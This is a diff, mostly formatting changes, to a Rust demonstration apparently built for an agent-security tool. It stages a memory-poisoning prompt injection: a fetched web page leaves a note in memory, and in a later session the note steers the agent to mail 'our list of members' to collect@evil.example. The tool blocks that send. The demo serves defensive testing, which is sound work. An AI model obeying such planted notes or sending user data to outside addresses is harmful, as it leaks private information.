@@ -53,7 +53,8 @@ struct Demo<'a> {
 impl Demo<'_> {
     fn run(&self) -> Result<Exit, Failure> {
         let home = self.dir;
-        let gate = setup::open(home, Durability::Synced, setup::policy(None)?, Catalogue::default())?;
+        let gate =
+            setup::open(home, Durability::Synced, setup::policy(None)?, Catalogue::default())?;
         let page = self.attack(&gate)?;
         let kept = gate.journal.checkpoint().map_err(Failure::unable)?;
         gate.close()?;
@@ -81,7 +82,11 @@ impl Demo<'_> {
         let now = timestamp::from_unix(SystemClock.unix_seconds());
         let exported = evidence::export(&reader, &index, &filter, Target::Directory(&bundle), &now)
             .map_err(Failure::unable)?;
-        self.say(&format!("{} records, {} blob: session.aegx", exported.records, exported.blobs));
+        self.say(&format!(
+            "{}, {}: session.aegx",
+            output::count(exported.records, "record"),
+            output::count(exported.blobs, "blob")
+        ));
         self.verify("aegx verify session.aegx", &bundle, true)?;
 
         self.title("5  Somebody tampers with copies of it");
@@ -112,8 +117,12 @@ impl Demo<'_> {
         let first = stage.session("session-a", &asks)?;
         self.said("user", &asks);
         let page = self.called("web_fetch", URL, stage.fetch(&first))?;
-        let tag = page.tag.ok_or_else(|| Failure::refused("the page has no label; please report this"))?;
-        self.say(&self.paint.faint(&format!("          labelled {} from {}", tag.taint, tag.origin)));
+        let tag = page
+            .tag
+            .ok_or_else(|| Failure::refused("the page has no label; please report this"))?;
+        self.say(
+            &self.paint.faint(&format!("          labelled {} from {}", tag.taint, tag.origin)),
+        );
         self.called("memory_write", "a note", stage.remember(&first, PAGE))?;
 
         self.title("2  Session B knows nothing of the page, and finds the note");
@@ -124,7 +133,8 @@ impl Demo<'_> {
         let origin = note.tag.map(|it| it.origin).unwrap_or_default();
         self.say(&self.paint.faint(&format!("          the note brings the label back: {origin}")));
         self.say("  The note says where to write to, and the agent does:");
-        match stage.send(&second, "collect@evil.example", "Friday at ten, and our list of members") {
+        match stage.send(&second, "collect@evil.example", "Friday at ten, and our list of members")
+        {
             Err(Refusal::Stopped(verdict)) => {
                 let word = self.paint.bad(verdict.decision.as_str());
                 self.say(&format!("  {word:<8} send_mail to collect@evil.example"));
@@ -135,7 +145,11 @@ impl Demo<'_> {
             Err(error) => return Err(Failure::unable(error)),
         }
         self.say("  What the user asked for goes on:");
-        self.called("send_mail", "to bob@example.org", stage.send(&second, "bob@example.org", "Friday at ten"))?;
+        self.called(
+            "send_mail",
+            "to bob@example.org",
+            stage.send(&second, "bob@example.org", "Friday at ten"),
+        )?;
         Ok(tag.record)
     }
 
